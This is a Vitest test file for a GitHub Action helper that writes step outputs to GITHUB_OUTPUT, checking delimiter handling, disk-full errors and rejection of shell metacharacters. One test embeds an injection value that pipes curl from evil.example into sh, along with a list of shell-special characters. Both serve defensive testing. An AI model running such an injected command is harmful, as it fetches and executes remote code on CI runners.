import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { EOL } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { outputCommands, setOutputs } from '../../src/github/outputs.js';
import { tempDir } from '../cli-harness.js';

describe('step outputs', () => {
  it('are appended to GITHUB_OUTPUT in GitHub’s multiline form, in one write', async () => {
    const file = path.join(tempDir(), 'output.txt');
    writeFileSync(file, 'earlier<<d0\nx\nd0\n');
    await setOutputs({ passed: 'true', 'mr1-rate': '' }, file);
    const text = readFileSync(file, 'utf8');
    const delimiter = /^passed<<(ghadelimiter_[0-9a-f-]{36})$/m.exec(text)?.[1];
    expect(delimiter).toBeDefined();
    expect(text).toBe(
      `earlier<<d0\nx\nd0\npassed<<${delimiter}${EOL}true${EOL}${delimiter}${EOL}mr1-rate<<${delimiter}${EOL}${EOL}${delimiter}${EOL}`,
    );
  });

  it('refuses a value that holds the delimiter', () => {
    expect(() => outputCommands({ a: 'xDy' }, 'D')).toThrow('output a holds the delimiter D');
  });

  it('refuse a value a shell would read more in than its text: newline, quote, $, ;, backquote…', () => {
    // The forged report's inconclusive output, as the security review found it.
    const injected = 'MR9"; curl https://evil.example | sh; echo "';
    expect(() => outputCommands({ inconclusive: injected }, 'D')).toThrow(
      `output inconclusive holds a character a shell reads: ${JSON.stringify(injected)}`,
    );
    for (const bad of [
      'a\nb',
      'a\rb',
      '"',
      "'",
      '$x',
      'a;b',
      '`id`',
      'a&b',
      'a|b',
      '(x)',
      '<x',
      '>x',
      '{x}',
    ]) {
      expect(() => outputCommands({ v: bad }, 'D'), bad).toThrow('holds a character a shell reads');
    }
    const safe = {
      passed: 'true',
      inconclusive: 'MR2,MR3,flip-rate-ratio:dead-code,attack-relative-degradation:wir-random',
      'mr1-rate': '1e-7',
      'report-json': '/home/runner/work/_temp/metacompress/report-gates_tiny.yml.json',
      'comment-url': 'https://github.com/octo/distil/pull/7#issuecomment-12',
      windows: 'D:\\a\\_temp\\report.json',
    };
    expect(outputCommands(safe, 'DELIM')).toContain(`inconclusive<<DELIM${EOL}MR2,MR3,`);
  });

  it.skipIf(!existsSync('/dev/full'))(
    'fail with a line naming GITHUB_OUTPUT when the disk is full',
    async () => {
      await expect(setOutputs({ passed: 'true' }, '/dev/full')).rejects.toThrow(
        'cannot write the step outputs (GITHUB_OUTPUT) to /dev/full (ENOSPC: no space left on device, write)',
      );
    },
  );
});
